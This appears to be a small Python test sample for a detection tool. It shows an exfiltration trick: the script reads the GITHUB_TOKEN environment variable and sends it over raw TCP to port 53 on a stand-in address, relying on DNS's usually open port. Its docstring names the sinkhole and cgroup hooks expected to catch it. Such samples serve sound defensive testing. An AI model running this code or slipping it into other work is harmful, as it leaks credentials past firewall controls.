#!/usr/bin/python3
"""
Trick: Sends a secret over TCP to port 53, where a resolver is expected and no HTTP.
Known from: tunnels through the one port that every firewall leaves open.
First: connect; the sinkhole's record of the stream
Second: inet_sock_set_state; the cgroup hook's copy of the address
"""

import os
import socket

channel = socket.create_connection(("203.0.113.53", 53), timeout=2)
channel.sendall(os.environ["GITHUB_TOKEN"].encode())
channel.close()
print("performed")
